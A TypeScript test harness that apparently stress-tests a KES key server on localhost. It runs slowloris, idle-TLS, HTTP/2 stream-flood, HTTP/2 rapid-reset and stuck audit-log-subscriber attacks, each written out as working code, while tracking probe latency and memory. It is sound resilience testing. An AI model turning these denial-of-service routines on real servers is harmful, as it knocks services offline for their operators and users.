/**
 * Resource-exhaustion attacks on a running KES server process, each measured the same way: a
 * probe client keeps asking for data keys during the attack and after it, and the server's
 * resident set is sampled. Used by `npm run exhaust` (full size, this server and minio/kes) and
 * by the CI smoke test (small size, this server).
 */
import { readFileSync } from 'node:fs';
import { Agent, request } from 'node:https';
import { connect as h2connect, type ClientHttp2Session } from 'node:http2';
import { connect, type TLSSocket } from 'node:tls';
import type { ClientCredential } from '../support/client.ts';

export interface Target {
  readonly port: number;
  readonly ca: string;
  readonly client: ClientCredential;
  /** The server's process id, for its resident set. */
  readonly pid: number;
  /** A key the probe generates data keys with. */
  readonly key: string;
}

export interface Sizes {
  readonly slowlorisConnections: number;
  readonly idleConnections: number;
  readonly h2Streams: number;
  readonly h2Resets: number;
  readonly logSubscribers: number;
  /** Audit events produced while the subscribers do not read. */
  readonly logEvents: number;
  /** How long each attack is held while the probe runs. */
  readonly holdMs: number;
}

export const FULL: Sizes = { slowlorisConnections: 500, idleConnections: 2000, h2Streams: 20_000, h2Resets: 20_000, logSubscribers: 1000, logEvents: 2000, holdMs: 6000 };
export const SMOKE: Sizes = { slowlorisConnections: 100, idleConnections: 300, h2Streams: 2000, h2Resets: 3000, logSubscribers: 100, logEvents: 300, holdMs: 1500 };

export interface Outcome {
  readonly attack: string;
  /** What the attack achieved on its own terms (connections held, streams answered, …). */
  readonly detail: string;
  readonly probeDuring: ProbeStats;
  readonly probeAfter: ProbeStats;
  readonly rssBeforeMiB: number;
  readonly rssPeakMiB: number;
  readonly rssAfterMiB: number;
}

export interface ProbeStats {
  readonly ok: number;
  readonly total: number;
  readonly p50Ms: number;
  readonly maxMs: number;
}

export function rssMiB(pid: number): number {
  const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  return m ? Number(m[1]) / 1024 : NaN;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

function tlsConnect(t: Target, alpn: string[]): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host: '127.0.0.1', port: t.port, ca: t.ca, servername: 'localhost', cert: t.client.cert, key: t.client.key, ALPNProtocols: alpn }, () => resolve(socket));
    socket.once('error', reject);
  });
}

function h2Session(t: Target): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const s = h2connect(`https://127.0.0.1:${t.port}`, { ca: t.ca, servername: 'localhost', cert: t.client.cert, key: t.client.key });
    s.once('connect', () => resolve(s));
    s.once('error', reject);
  });
}

/** One data-key request on a fresh HTTP/2 session: its latency, or undefined on failure. */
async function probeOnce(t: Target): Promise<number | undefined> {
  const t0 = performance.now();
  let session: ClientHttp2Session | undefined;
  try {
    session = await h2Session(t);
    const ok = await new Promise<boolean>((resolve) => {
      const stream = session!.request({ ':method': 'PUT', ':path': `/v1/key/generate/${t.key}` });
      let status = 0;
      let body = '';
      stream.on('response', (h) => (status = Number(h[':status'])));
      stream.setEncoding('utf8');
      stream.on('data', (c: string) => (body += c));
      stream.on('end', () => resolve(status === 200 && body.includes('"plaintext"')));
      stream.on('error', () => resolve(false));
      stream.setTimeout(5000, () => stream.close());
      stream.end('{}');
    });
    return ok ? performance.now() - t0 : undefined;
  } catch {
    return undefined;
  } finally {
    session?.destroy();
  }
}

/** Probes back to back until `until` resolves; samples the RSS peak meanwhile. */
async function probeWhile(t: Target, until: Promise<unknown>, peak: { value: number }): Promise<ProbeStats> {
  let done = false;
  void until.finally(() => (done = true));
  const times: number[] = [];
  let total = 0;
  while (!done) {
    total++;
    const ms = await probeOnce(t);
    if (ms !== undefined) times.push(ms);
    peak.value = Math.max(peak.value, rssMiB(t.pid));
    await sleep(50);
  }
  return stats(times, total);
}

async function probeN(t: Target, n: number): Promise<ProbeStats> {
  const times: number[] = [];
  for (let i = 0; i < n; i++) {
    const ms = await probeOnce(t);
    if (ms !== undefined) times.push(ms);
  }
  return stats(times, n);
}

function stats(times: number[], total: number): ProbeStats {
  const sorted = [...times].sort((a, b) => a - b);
  return { ok: times.length, total, p50Ms: sorted[Math.floor(sorted.length / 2)] ?? NaN, maxMs: sorted.at(-1) ?? NaN };
}

/** Runs `attack` (which resolves with its detail once it has held for its time), probing during and after. */
async function measure(t: Target, name: string, attack: () => Promise<string>): Promise<Outcome> {
  const rssBeforeMiB = rssMiB(t.pid);
  const peak = { value: rssBeforeMiB };
  const running = attack();
  const probeDuring = await probeWhile(t, running, peak);
  const detail = await running;
  await sleep(500);
  const probeAfter = await probeN(t, 10);
  return { attack: name, detail, probeDuring, probeAfter, rssBeforeMiB, rssPeakMiB: peak.value, rssAfterMiB: rssMiB(t.pid) };
}

/** Connections sending their request headers one byte at a time. */
export function slowloris(t: Target, size: Sizes): Promise<Outcome> {
  return measure(t, `slowloris ×${size.slowlorisConnections}`, async () => {
    const header = `PUT /v1/key/generate/${t.key} HTTP/1.1\r\nHost: localhost\r\nX-Padding: ${'a'.repeat(4000)}\r\n`;
    const sockets: TLSSocket[] = [];
    let closedByServer = 0;
    for (let i = 0; i < size.slowlorisConnections; i++) {
      const s = await tlsConnect(t, ['http/1.1']).catch(() => undefined);
      if (!s) continue;
      s.on('error', () => {});
      s.once('close', () => closedByServer++);
      sockets.push(s);
    }
    const until = performance.now() + size.holdMs;
    for (let i = 0; performance.now() < until; i++) {
      for (const s of sockets) if (!s.destroyed) s.write(header[i % header.length]);
      await sleep(100);
    }
    const closed = closedByServer;
    for (const s of sockets) s.destroy();
    return `${sockets.length} opened, ${closed} cut by the server within ${size.holdMs} ms`;
  });
}

/** TLS connections that never send a byte after the handshake (half HTTP/1.1, half h2). */
export function idleConnections(t: Target, size: Sizes): Promise<Outcome> {
  return measure(t, `idle TLS ×${size.idleConnections}`, async () => {
    const sockets: TLSSocket[] = [];
    for (let i = 0; i < size.idleConnections; i++) {
      const s = await tlsConnect(t, i % 2 === 0 ? ['http/1.1'] : ['h2']).catch(() => undefined);
      if (s) {
        s.on('error', () => {});
        sockets.push(s);
      }
    }
    await sleep(size.holdMs);
    const open = sockets.filter((s) => !s.destroyed).length;
    for (const s of sockets) s.destroy();
    return `${sockets.length} opened, ${open} still open after ${size.holdMs} ms`;
  });
}

/** One session opening streams as fast as it can, never waiting for an answer. */
export function h2StreamFlood(t: Target, size: Sizes): Promise<Outcome> {
  return measure(t, `h2 stream flood ×${size.h2Streams}`, async () => {
    const session = await h2Session(t);
    session.on('error', () => {});
    let answered = 0;
    let refused = 0;
    const started = performance.now();
    const all: Promise<void>[] = [];
    for (let i = 0; i < size.h2Streams && !session.destroyed; i++) {
      try {
        const stream = session.request({ ':method': 'GET', ':path': `/v1/key/describe/${t.key}` });
        stream.resume();
        all.push(
          new Promise<void>((resolve) => {
            stream.on('response', () => answered++);
            stream.on('close', () => resolve());
            stream.on('error', () => {
              refused++;
              resolve();
            });
          }),
        );
      } catch {
        refused++;
      }
    }
    await Promise.race([Promise.all(all), sleep(Math.max(size.holdMs, 20_000))]);
    const ms = performance.now() - started;
    await sleep(Math.max(0, size.holdMs - ms));
    session.destroy();
    return `${answered} answered, ${refused} refused, in ${Math.round(ms)} ms`;
  });
}

/** One session opening streams and cancelling each at once ("rapid reset"). */
export function h2ResetFlood(t: Target, size: Sizes): Promise<Outcome> {
  return measure(t, `h2 RST flood ×${size.h2Resets}`, async () => {
    let sessions = 0;
    let sent = 0;
    const until = performance.now() + size.holdMs;
    let goaway = '';
    while (sent < size.h2Resets && performance.now() < until) {
      const session = await h2Session(t).catch(() => undefined);
      if (!session) break;
      sessions++;
      session.on('error', () => {});
      session.on('goaway', (code) => (goaway = `GOAWAY code ${code}`));
      for (let i = 0; i < 500 && sent < size.h2Resets && !session.destroyed; i++, sent++) {
        try {
          const stream = session.request({ ':method': 'PUT', ':path': `/v1/key/generate/${t.key}` }, { endStream: false });
          stream.on('error', () => {});
          stream.close(8); // CANCEL
        } catch {
          break;
        }
      }
      await sleep(20);
      session.destroy();
    }
    await sleep(Math.max(0, until - performance.now()));
    return `${sent} streams reset over ${sessions} sessions${goaway ? `; server sent ${goaway}` : ''}`;
  });
}

/** Audit-log subscribers that never read, while key creations produce audit events. */
export function stuckLogSubscribers(t: Target, size: Sizes, makeEvent: (i: number) => Promise<void>): Promise<Outcome> {
  return measure(t, `log subscribers ×${size.logSubscribers}`, async () => {
    const sockets: TLSSocket[] = [];
    for (let i = 0; i < size.logSubscribers; i++) {
      const s = await tlsConnect(t, ['http/1.1']).catch(() => undefined);
      if (!s) continue;
      s.on('error', () => {});
      s.write('GET /v1/log/audit HTTP/1.1\r\nHost: localhost\r\n\r\n');
      s.pause();
      sockets.push(s);
    }
    const started = performance.now();
    for (let i = 0; i < size.logEvents; i++) await makeEvent(i);
    await sleep(Math.max(0, size.holdMs - (performance.now() - started)));
    const open = sockets.filter((s) => !s.destroyed).length;
    for (const s of sockets) s.destroy();
    return `${sockets.length} subscribed, ${size.logEvents} events, ${open} still connected`;
  });
}


/** Makes audit events: each call creates one key over a keep-alive connection. */
export function keyCreator(t: Target): { create: (i: number) => Promise<void>; close: () => void } {
  const agent = new Agent({ keepAlive: true, maxSockets: 1, cert: t.client.cert, key: t.client.key });
  const prefix = `ev-${Date.now()}`;
  const create = (i: number): Promise<void> =>
    new Promise((resolve) => {
      const rq = request({ host: '127.0.0.1', port: t.port, method: 'PUT', path: `/v1/key/create/${prefix}-${i}`, agent, ca: t.ca, servername: 'localhost' }, (res) => {
        res.resume();
        res.on('end', () => resolve());
      });
      rq.on('error', () => resolve());
      rq.end();
    });
  return { create, close: () => agent.destroy() };
}

/** Runs every attack in turn against one target. */
export async function runAll(t: Target, size: Sizes): Promise<Outcome[]> {
  const out: Outcome[] = [];
  out.push(await slowloris(t, size));
  out.push(await idleConnections(t, size));
  out.push(await h2StreamFlood(t, size));
  out.push(await h2ResetFlood(t, size));
  const events = keyCreator(t);
  try {
    out.push(await stuckLogSubscribers(t, size, events.create));
  } finally {
    events.close();
  }
  return out;
}
